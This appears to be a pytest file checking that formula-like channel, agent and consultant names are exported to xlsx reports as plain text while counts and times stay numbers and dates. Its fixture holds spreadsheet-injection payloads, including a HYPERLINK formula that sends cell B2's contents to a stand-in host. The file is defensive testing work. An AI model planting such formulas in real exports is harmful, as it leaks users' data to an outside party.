"""The daily report and the channel's commission statement as workbooks, on a site whose channel, agent and
consultant are named like formulas: every such name is a text cell (never a formula) that reads as
written, while the counts and times the reports compute stay numbers and dates."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from admin.cli import main
from reports.sheet_text import as_written
from service.store import Store
from tests.db.stores import new_store
from tests.reports.seed import ZONE

CHANNEL = '=HYPERLINK("http://x.example/?"&B2,"点击查看")'
AGENT = "@SUM(1+1)"
CONSULTANT = "-2+3"
PHONE = "13900000011"


def at(store: Store, day: int, hour: int) -> None:
    store.clock.at = datetime(2026, 3, day, hour, tzinfo=ZONE)  # type: ignore[attr-defined]


@pytest.fixture
def hostile(db_url: str, data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    store = new_store(db_url, data_dir, (CONSULTANT, "李强"), {CHANNEL: [AGENT]}, station="reports-test")
    monkeypatch.setenv("ANCHANG_DATABASE_URL", db_url)
    at(store, 1, 10)
    store.record_report(CHANNEL, AGENT, PHONE, name="张女士")
    at(store, 1, 11)
    store.register_visit(PHONE, channel=CHANNEL, agent=AGENT, consultant=CONSULTANT)
    at(store, 1, 12)
    store.change_stage(PHONE, CONSULTANT, "subscribe")
    at(store, 2, 9)
    yield store
    store.dispose()


def cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("args", [["daily", "--date", "2026-03-01"], ["channel", CHANNEL, "--month", "2026-03"]])
def test_names_like_formulas_are_text_and_figures_stay_numbers(hostile: Store, tmp_path: Path,
                                                              args: list[str]) -> None:
    target = tmp_path / "report.xlsx"
    assert main(["report", *args, "--out", str(target), "--format", "xlsx"]) == 0
    written = cells(target)
    assert [c.coordinate for c in written if c.data_type == "f"] == []
    texts = {c.value for c in written if c.data_type == "s"}
    assert any(as_written(v).startswith(CHANNEL) for v in texts)  # readable: as written, after the quote
    assert any(AGENT in v for v in texts)
    user_texts = {v for v in texts if isinstance(v, str) and not v.startswith("-----BEGIN PUBLIC KEY")}
    assert not any(v.startswith(("=", "+", "-", "@")) for v in user_texts)  # the site's own key: as it is
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in written)  # counts are numbers
    assert any(c.is_date for c in written)  # times are times


def test_the_daily_report_names_the_consultant_as_written(hostile: Store, tmp_path: Path) -> None:
    target = tmp_path / "daily.xlsx"
    assert main(["report", "daily", "--date", "2026-03-01", "--out", str(target)]) == 0
    assert "'" + CONSULTANT in {c.value for c in cells(target)}
